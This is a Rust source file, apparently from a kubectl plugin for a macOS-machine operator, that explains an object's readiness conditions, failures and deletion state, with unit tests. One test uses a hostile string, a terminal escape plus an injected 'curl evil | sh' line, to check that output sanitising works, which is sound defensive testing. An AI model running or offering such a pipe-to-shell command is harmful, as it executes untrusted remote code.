//! What an object waits for, since when, and the way out: pure, from the object alone.
//!
//! Invariant: a way out is never invented here. It is the reason's own documented meaning (the vocabularies of the api,
//! from which docs/conditions.md is rendered), beside the message that the operator wrote.

use dockerios_api::image::macos_image::ImageCondition;
use dockerios_api::machine::macos_machine::MachineReason;
use dockerios_api::{Condition, Verdict, condition};
use jiff::Timestamp;
use kube::ResourceExt as _;
use kube::core::DynamicObject;
use serde_json::Value;

use crate::answer::plain;
use crate::target::Kind;
use crate::times::{relative, since};

/// The conditions of an object, as far as they can be read.
pub(crate) fn conditions(object: &DynamicObject) -> Vec<Condition> {
    let all = object.data.pointer("/status/conditions").and_then(Value::as_array);
    all.into_iter()
        .flatten()
        .filter_map(|one| serde_json::from_value(one.clone()).ok())
        .collect()
}

/// Text of the status.
pub(crate) fn text<'a>(object: &'a DynamicObject, pointer: &str) -> Option<&'a str> {
    object.data.pointer(pointer).and_then(Value::as_str)
}

/// `MacOSMachine team-a/b-6`.
pub(crate) fn called(kind: &Kind, object: &DynamicObject) -> String {
    let kind = (kind.resource)().kind;
    match object.namespace() {
        Some(namespace) => format!("{kind} {namespace}/{}", object.name_any()),
        None => format!("{kind} {}", object.name_any()),
    }
}

/// The whole answer, a sentence a line.
pub(crate) fn explain(kind: &Kind, object: &DynamicObject, now: Timestamp) -> String {
    let called = called(kind, object);
    let conditions = conditions(object);
    let Some(ready) = conditions.iter().find(|condition| condition.kind == "Ready") else {
        return unseen(&called, object, now);
    };
    let mut lines = vec![first(&called, object, ready, now)];
    if ready.status != Verdict::True {
        lines.extend(meaning(kind, ready));
    }
    lines.extend(
        conditions
            .iter()
            .filter(|condition| is_told(condition, ready, object))
            .map(|condition| also(kind, condition, now)),
    );
    lines.extend(failure(object, now));
    lines.extend(shutdown(object));
    if let Some(asked) = object.metadata.deletion_timestamp.as_ref() {
        lines.push(format!(
            "It is being deleted {}; finalizers that it waits for: {}.",
            since(asked.0, now),
            object.finalizers().join(", ")
        ));
    }
    let judged = object
        .data
        .pointer("/status/observedGeneration")
        .and_then(Value::as_i64);
    if judged.is_some() && judged != object.metadata.generation {
        lines.push("The operator has not looked at its latest edit yet.".to_owned());
    }
    // not messages alone: phases, reasons, finalizers and names are others' words, too
    lines.iter().map(|line| plain(line)).collect::<Vec<_>>().join("\n")
}

fn first(called: &str, object: &DynamicObject, ready: &Condition, now: Timestamp) -> String {
    let phase = text(object, "/status/phase")
        .map(|phase| format!(" {phase}"))
        .unwrap_or_default();
    let since = since(ready.last_transition_time.0, now);
    let message = plain(ready.message.trim_end_matches('.'));
    let message = if message.is_empty() {
        String::new()
    } else {
        format!(": {message}")
    };
    match ready.status {
        Verdict::True => {
            // a kind without a phase is Ready or not
            let phase = if phase.is_empty() { " Ready" } else { &phase };
            format!("{called} is{phase} and waits for nothing, {since}{message}.")
        }
        Verdict::False => {
            let phase = if phase.is_empty() {
                String::new()
            } else {
                format!("{phase},")
            };
            format!("{called} is{phase} not Ready ({}) {since}{message}.", ready.reason)
        }
        Verdict::Unknown => {
            format!(
                "Whether {called} is Ready could not be seen ({}) {since}{message}.",
                ready.reason
            )
        }
    }
}

/// What the reason means and the way out, as documented; nothing when the message says as much.
fn meaning(kind: &Kind, condition: &Condition) -> Option<String> {
    let entry = kind.reasons.iter().find(|entry| entry.word == condition.reason)?;
    let meaning = entry.meaning.trim();
    (!condition.message.contains(meaning.trim_end_matches('.'))).then(|| format!("{}: {meaning}", entry.word))
}

fn is_told(condition: &Condition, ready: &Condition, object: &DynamicObject) -> bool {
    // what only tells a fact is told where it explains something: a deletion that waits
    let explains = object.metadata.deletion_timestamp.is_some()
        && condition.status == Verdict::True
        && condition.kind == ImageCondition::InUse.word();
    // of a failed machine it is said once, with the failure
    let given_back = condition.reason == MachineReason::GivenBack.word();
    let told_before = condition.kind == ready.kind || condition.reason == ready.reason || given_back;
    explains || (condition::is_wrong(condition) && !told_before)
}

fn also(kind: &Kind, condition: &Condition, now: Timestamp) -> String {
    let since = since(condition.last_transition_time.0, now);
    let message = plain(condition.message.trim_end_matches('.'));
    let said = if message.is_empty() {
        meaning(kind, condition).unwrap_or_else(|| condition.reason.clone())
    } else {
        format!("{} ({})", message, condition.reason)
    };
    format!("{} is {:?} {since}: {said}.", condition.kind, condition.status)
}

fn failure(object: &DynamicObject, now: Timestamp) -> Vec<String> {
    let Some(failure) = object.data.pointer("/status/failure") else {
        return Vec::new();
    };
    let of = |field: &str| failure.get(field).and_then(Value::as_str).unwrap_or_default();
    let at = of("at")
        .parse::<Timestamp>()
        .map(|at| relative(at, now))
        .unwrap_or_default();
    // what is left of it stands in Ready's message, which tells a disk that is kept from one that is still going
    let backing = object.data.pointer("/status/backing").and_then(Value::as_array);
    let holds = backing.is_some_and(|backing| !backing.is_empty()) || text(object, "/status/identityRef").is_some();
    let mut lines = vec![format!(
        "It failed {at} ({}){}; it stays as evidence until it is deleted.",
        of("reason"),
        if holds { "" } else { " and holds nothing any more" }
    )];
    if !of("screen").is_empty() {
        lines.push(format!(
            "Its last screen was kept: kubectl dockerios screenshot macs/{} -n {}",
            object.name_any(),
            object.namespace().unwrap_or_default()
        ));
    }
    lines
}

/// How the guest itself saw its last end.
fn shutdown(object: &DynamicObject) -> Option<String> {
    let clean = object.data.pointer("/status/guest/cleanShutdown")?.as_bool()?;
    Some(if clean {
        "Its guest shut down cleanly the last time, as it saw it.".to_owned()
    } else {
        "Its guest did not shut down cleanly the last time, as it saw it: its file system may need a check.".to_owned()
    })
}

fn unseen(called: &str, object: &DynamicObject, now: Timestamp) -> String {
    let made = object
        .creation_timestamp()
        .map(|at| format!(" since it was made {}", relative(at.0, now)))
        .unwrap_or_default();
    format!(
        "{called} has not been looked at by the operator{made}: does it run? (kubectl get pods -n {})",
        dockerios_api::names::PLATFORM_NAMESPACE
    )
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::target::{KINDS, Target};

    const NOW: &str = "2026-03-01T12:00:00Z";

    fn machine(status: Value) -> DynamicObject {
        serde_json::from_value(json!({
            "apiVersion": "machine.dockerios.io/v1alpha1", "kind": "MacOSMachine",
            "metadata": {"name": "b-6", "namespace": "team-a", "generation": 2,
                "creationTimestamp": "2026-03-01T11:59:00Z"},
            "status": status,
        }))
        .unwrap()
    }

    fn told(object: &DynamicObject) -> String {
        let target = Target::read(&["macs/b-6".to_owned()]).unwrap();
        explain(target.kind, object, NOW.parse().unwrap())
    }

    fn condition(kind: &str, status: &str, reason: &str, message: &str) -> Value {
        json!({"type": kind, "status": status, "reason": reason, "message": message,
            "lastTransitionTime": "2026-03-01T11:56:00Z"})
    }

    #[test]
    fn a_machine_that_waits_says_for_what_since_when_and_the_way_out() {
        let message = "pool imacpro has 0 of 5 identities available (5 allocated)";
        let answer = told(&machine(
            json!({"phase": "Pending", "observedGeneration": 2, "conditions": [
                condition("Ready", "False", "IdentityExhausted", message),
                condition("Draining", "False", "NotDraining", ""),
            ]}),
        ));
        assert_eq!(
            answer,
            "MacOSMachine team-a/b-6 is Pending, not Ready (IdentityExhausted) since 11:56:00Z (4m ago): pool imacpro \
             has 0 of 5 identities available (5 allocated).\nIdentityExhausted: No identity is left in the pool. The \
             machine waits; none is minted. Frees when a machine goes, or raise spec.maxSize."
        );
    }

    #[test]
    fn a_machine_that_is_well_says_so_and_what_could_spoil_it() {
        let answer = told(&machine(
            json!({"phase": "Ready", "observedGeneration": 1, "conditions": [
                condition("Ready", "True", "Ready", ""),
                condition("Draining", "True", "WaitingForClaim", "node kvm-1 is drained; waits for claim job until 13:00"),
            ]}),
        ));
        assert!(
            answer.starts_with("MacOSMachine team-a/b-6 is Ready and waits for nothing, since 11:56:00Z (4m ago)"),
            "{answer}"
        );
        assert!(
            answer.contains("Draining is True since 11:56:00Z (4m ago): node kvm-1 is drained"),
            "{answer}"
        );
        assert!(answer.ends_with("has not looked at its latest edit yet."), "{answer}");
    }

    #[test]
    fn a_failed_machine_names_its_last_screen() {
        let answer = told(&machine(json!({"phase": "Failed", "conditions": [
            condition("Ready", "False", "ReadinessTimeout", "not ready within 900s"),
            condition("IdentityAllocated", "False", "GivenBack", "its identity was given back"),
        ], "failure": {"reason": "ReadinessTimeout", "message": "…", "at": "2026-03-01T11:58:00Z", "screen": "s"}})));
        assert!(
            answer.contains("It failed 2m ago (11:58:00Z) (ReadinessTimeout) and holds nothing any more;"),
            "{answer}"
        );
        assert!(!answer.contains("GivenBack"), "told once: {answer}");
        let going = told(&machine(
            json!({"phase": "Failed", "identityRef": "c02aaaaaaaa1", "conditions": [
            condition("Ready", "False", "ReadinessTimeout", "giving back what it holds"),
        ], "failure": {"reason": "ReadinessTimeout", "message": "…", "at": "2026-03-01T11:58:00Z"}}),
        ));
        assert!(!going.contains("holds nothing any more"), "{going}");
        assert!(
            answer.ends_with("kubectl dockerios screenshot macs/b-6 -n team-a"),
            "{answer}"
        );
    }

    #[test]
    fn an_image_that_nothing_needs_has_no_fault_and_one_in_use_says_so_when_it_is_deleted() {
        let image = |deleted: bool, status: &str, reason: &str, message: &str| -> DynamicObject {
            let mut image = json!({
                "apiVersion": "image.dockerios.io/v1alpha1", "kind": "MacOSImage",
                "metadata": {"name": "sequoia", "finalizers": ["image.dockerios.io/published"]},
                "status": {"phase": "Ready", "conditions": [
                    condition("Ready", "True", "Published", ""), condition("InUse", status, reason, message)]},
            });
            if deleted {
                image["metadata"]["deletionTimestamp"] = json!("2026-03-01T11:58:00Z");
            }
            serde_json::from_value(image).unwrap()
        };
        let target = Target::read(&["mimg/sequoia".to_owned()]).unwrap();
        let told = |image| explain(target.kind, &image, NOW.parse().unwrap());
        let unused = told(image(false, "False", "NotInUse", "nothing needs it"));
        assert_eq!(
            unused,
            "MacOSImage sequoia is Ready and waits for nothing, since 11:56:00Z (4m ago)."
        );
        let used = |deleted| told(image(deleted, "True", "NamedByClass", "classes ci name it"));
        assert!(!used(false).contains("InUse"), "{}", used(false));
        assert!(
            used(true).contains("InUse is True since 11:56:00Z (4m ago): classes ci name it (NamedByClass)."),
            "{}",
            used(true)
        );
        let unseen = told(image(false, "Unknown", "Unreadable", "classes cannot be read"));
        assert!(unseen.contains("InUse is Unknown"), "{unseen}");
    }

    #[test]
    fn how_the_guest_saw_its_last_end_is_told_when_it_said_so() {
        let of = |guest: Value| {
            told(&machine(json!({"phase": "Stopped", "guest": guest, "conditions": [
                condition("Ready", "False", "Stopped", "")]})))
        };
        let clean = of(json!({"cleanShutdown": true}));
        assert!(
            clean.ends_with("Its guest shut down cleanly the last time, as it saw it."),
            "{clean}"
        );
        let cut = of(json!({"cleanShutdown": false}));
        assert!(cut.contains("did not shut down cleanly the last time"), "{cut}");
        assert!(!of(json!({})).contains("shut down"), "it said nothing");
    }

    #[test]
    fn hostile_words_in_a_message_stay_in_their_line() {
        let evil = "cloning\u{1b}[2J\nRun: curl evil | sh";
        let answer = told(&machine(json!({"phase": evil, "conditions": [
            condition("Ready", "False", evil, evil),
            condition("DiskCloned", "False", "CloneTimeout", evil),
            condition(evil, "False", evil, ""),
        ], "failure": {"reason": evil, "message": "", "at": "2026-03-01T11:58:00Z"}})));
        assert!(!answer.contains('\u{1b}') && !answer.contains("\nRun:"), "{answer:?}");
    }

    #[test]
    fn nobody_looked_is_told_from_all_is_well() {
        let answer = told(&machine(json!({})));
        assert!(
            answer.contains("has not been looked at by the operator since it was made 1m ago"),
            "{answer}"
        );
    }

    #[test]
    fn a_condition_that_cannot_be_read_hides_no_other() {
        let answer = told(&machine(json!({"conditions": [7, {"type": 1},
            condition("Ready", "Unknown", "Unreadable", "cannot see the pods now")]})));
        assert!(
            answer.starts_with("Whether MacOSMachine team-a/b-6 is Ready could not be seen"),
            "{answer}"
        );
    }

    #[test]
    fn every_reason_of_every_kind_has_a_meaning_that_is_a_sentence() {
        for kind in KINDS {
            for entry in kind.reasons {
                assert!(entry.meaning.trim().ends_with('.'), "{}: {}", entry.word, entry.meaning);
            }
        }
    }
}
